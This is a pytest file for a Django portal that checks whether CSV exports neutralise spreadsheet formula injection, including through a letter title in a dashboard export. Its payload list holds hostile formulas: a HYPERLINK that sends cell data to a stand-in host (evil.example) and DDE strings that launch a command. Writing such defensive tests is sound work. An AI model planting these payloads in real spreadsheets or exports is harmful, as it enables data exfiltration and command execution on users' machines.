"""CSV formula injection. Every cell that a spreadsheet would read as a formula
(=, +, -, @, tab, CR at the start) is neutralised with a leading quote, in every export."""

import csv
import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from nhn_portal.core.spreadsheet import csv_writer, safe_cell
from raden.models.letters import CouncilLetter
from tests.builders import issue, letter_for

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Woondeal NHN", "", "2026-01-05", "a=b", 3, -4, None])
def test_other_cells_pass_unchanged(value):
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_and_the_csv_reads_back():
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerow(["titel", *PAYLOADS, 7])
    [row] = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert row == ["titel", *("'" + p for p in PAYLOADS), "7"]


@pytest.mark.django_db
@pytest.mark.usefixtures("celery_eager")
def test_the_distribution_csv_neutralises_a_letter_title(
    client,
    secretary,
    meeting_with_decision,
    region,
    fake_render,
    django_capture_on_commit_callbacks,
):
    letter = letter_for(meeting_with_decision, secretary, region)
    issue(letter, secretary, django_capture_on_commit_callbacks)
    CouncilLetter.objects.filter(pk=letter.pk).update(title=PAYLOADS[0])
    client.force_login(secretary)
    export = client.get(reverse("raden:dashboard_csv"))
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) == 1 + 17
    for row in rows[1:]:
        assert row[0] == "'" + PAYLOADS[0]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_no_export_writes_csv_around_the_helper():
    """Every CSV export goes through nhn_portal.core.spreadsheet.csv_writer."""
    offenders = []
    for app in ("nhn_portal", "gremia", "platforms", "regiobureau", "raden"):
        for path in (Path(settings.BASE_DIR) / app).rglob("*.py"):
            if path.name == "spreadsheet.py":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()):
                offenders.append(str(path.relative_to(settings.BASE_DIR)))
    assert offenders == []
